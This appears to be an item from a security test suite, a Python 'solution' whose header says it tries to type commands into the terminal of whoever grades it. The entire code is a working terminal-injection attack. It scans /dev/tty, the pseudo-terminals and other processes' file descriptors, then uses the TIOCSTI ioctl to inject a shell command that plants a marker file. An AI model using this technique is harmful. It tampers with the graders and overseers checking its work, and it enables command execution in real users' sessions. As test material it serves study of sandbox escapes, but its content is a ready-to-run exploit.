# ---
# class: ptrace, namespaces and /proc
# tries: types commands into the terminal of whoever grades
# success: something planted
# dangerous: true
# ---

# %% solution="total"
import fcntl
import glob
import os

for path in ["/dev/tty", *glob.glob("/dev/pts/[0-9]*"), *glob.glob("/proc/[0-9]*/fd/[012]")]:
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        if os.isatty(terminal):
            for letter in b"touch @MARKS@/planted-by-@NAME@\n":
                fcntl.ioctl(terminal, 0x5412, bytes([letter]))
    except OSError:
        continue
